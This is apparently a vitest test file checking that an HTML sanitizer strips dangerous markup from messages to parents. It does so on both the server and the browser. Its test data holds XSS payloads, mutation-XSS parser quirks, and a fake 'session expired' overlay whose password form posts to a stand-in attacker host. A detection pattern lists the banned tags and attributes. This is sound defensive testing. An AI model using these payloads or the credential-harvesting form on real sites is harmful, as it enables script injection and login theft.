import { describe, expect, it } from 'vitest';
import { excerptOf } from './excerpt.ts';
import { textOnServer } from './excerpt-server.ts';
import { providerImages } from './provider-images.ts';
import { sanitizeHtml as sanitizeInBrowser } from './sanitize.ts';
import { sanitizeOnServer as sanitizeServerSide } from './sanitize-server.ts';

/** The same markup written two ways (quotes, void tags) reads back the same from a DOM. */
const normalized = (html: string) => {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div.innerHTML;
};

const images = providerImages((path) => `https://api.example/api/image/${path}`);
const sanitizeHtml = (html: string) => sanitizeInBrowser(html, images);
const sanitizeOnServer = (html: string) => sanitizeServerSide(html, images);

const payloads = [
  '<p>Dear parents, <b>welcome</b> to <em>the new session</em>.</p><ul><li>One</li><li>Two</li></ul>',
  '<p><a href="https://school.example/notice">the notice</a> and <img src="https://api.example/img.jpg" alt="Assembly"></p>',
  '<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)></svg>',
  '<a href="javascript:alert(1)">click</a><a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  // The takeover seen in the wild: a full-screen overlay with a password form posting elsewhere.
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff"><h2>Your session expired. Please sign in again.</h2><form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pass"><button>Sign in</button></form></div>',
  '<p style="color:red" class="x" id="main" onclick="x()">styled</p><style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><foreignObject><div style="position:fixed">x</div></foreignObject><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)></video><marquee>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><textarea>x</textarea><select><option>x</option></select>',
  '<a href="  JaVaScRiPt:alert(1)">x</a><a href="vbscript:msgbox(1)">y</a><img src="https://evil.example/pixel.gif"><img src="//evil.example/p.gif">',
];

// Parsers disagree on where these end (mutation XSS): each side must only be safe.
const parserQuirks = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p>a<!--</p><img src=x onerror=alert(1)>--></p>',
  '<<img src=x onerror=alert(1)//<',
];

describe('sanitizeHtml', () => {
  it.each(parserQuirks)('is safe on both sides where parsers disagree: %s', (html) => {
    for (const clean of [sanitizeHtml(html), sanitizeOnServer(html)]) expect(clean).not.toMatch(/onerror|<script/i);
  });

  it.each(payloads)(
    'keeps formatting and drops anything that runs, restyles, overlays or collects input: %s',
    (html) => {
      const clean = sanitizeHtml(html);
      expect(clean).not.toMatch(
        /<script|onerror|onload|onclick|ontoggle|javascript:|vbscript:|data:text|<iframe|<object|<embed|<form|<input|<button|<textarea|<select|<style|<link|<meta|<base|<svg|<math|<video|<details|<marquee|style=|class=|id=|evil\.example\/p/i,
      );
    },
  );

  it.each(payloads)('renders the same on the server as in the browser: %s', (html) => {
    expect(normalized(sanitizeOnServer(html))).toBe(normalized(sanitizeHtml(html)));
  });

  it('keeps what a message needs', () => {
    expect(normalized(sanitizeHtml(payloads[1]!))).toBe(
      '<p><a href="https://school.example/notice">the notice</a> and <img src="https://api.example/img.jpg" alt="Assembly"></p>',
    );
  });

  it('leaves nothing of the overlay but its text: no position, no form, no field', () => {
    const host = document.createElement('div');
    host.innerHTML = sanitizeHtml(payloads[5]!);
    expect(host.querySelectorAll('form, input, button, [style]')).toHaveLength(0);
    expect(host.textContent).toContain('Your session expired. Please sign in again.');
  });

  it.each([
    ['a provider file path', 'uploads/assembly.jpg', 'https://api.example/api/image/uploads/assembly.jpg'],
    ["the provider's own URL", 'https://api.example/files/a.jpg', 'https://api.example/files/a.jpg'],
    ['another origin', 'https://evil.example/pixel.gif', null],
    ['a protocol-relative URL', '//evil.example/pixel.gif', null],
    ['a data URL', 'data:image/svg+xml,<svg onload=alert(1)>', null],
    ['nothing', '  ', null],
  ])('shows pictures from the provider only: %s', (_kind, src, expected) => {
    const host = document.createElement('div');
    host.innerHTML = sanitizeHtml(`<p>x<img src="${src}" alt="a"></p>`);
    expect(host.querySelector('img')?.getAttribute('src') ?? null).toBe(expected);
    expect(normalized(sanitizeOnServer(`<p>x<img src="${src}" alt="a"></p>`))).toBe(host.innerHTML);
  });
});

describe('excerptOf', () => {
  it('reads the same text on the server as in the browser', () => {
    const html =
      '<p>Dear&nbsp;parents &amp; students,</p><script>x()</script><p>the <b>session</b> begins.</p><style>p{}</style>';
    expect(excerptOf(html)).toBe('Dear parents & students, the session begins.');
    expect(textOnServer(html, 'script, style').replace(/\s+/g, ' ').trim()).toBe(
      'Dear parents & students,the session begins.',
    );
  });
});
